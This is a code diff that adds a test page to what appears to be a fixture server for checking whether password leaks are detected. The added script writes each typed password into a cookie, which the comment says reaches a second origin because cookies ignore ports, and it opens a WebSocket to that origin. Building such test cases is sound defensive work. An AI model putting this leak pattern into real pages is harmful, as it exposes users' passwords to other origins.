@@ -164,6 +164,21 @@ document.getElementById("password").addEventListener("input",e=>{
 });</script>`,
           ),
         ),
+      // After typing: a cookie holding the value (cookies ignore ports, so the other origin gets it too), then a socket there sending nothing secret.
+      "/ws-after": (_req, res) =>
+        html(
+          res,
+          page(
+            "Sockets",
+            `<input id="password" type="password"><p id="done">ready</p><script>
+const E=${E};
+document.getElementById("password").addEventListener("input",e=>{
+  document.cookie="sid="+encodeURIComponent(e.target.value)+"; path=/";
+  try{const w=new WebSocket(E.replace("http","ws")+"/ws");w.onopen=()=>w.send("hello");w.onerror=()=>{}}catch(_){}
+  document.getElementById("done").textContent="tried";
+});</script>`,
+          ),
+        ),
       "/echo": (_req, res) =>
         html(
           res,
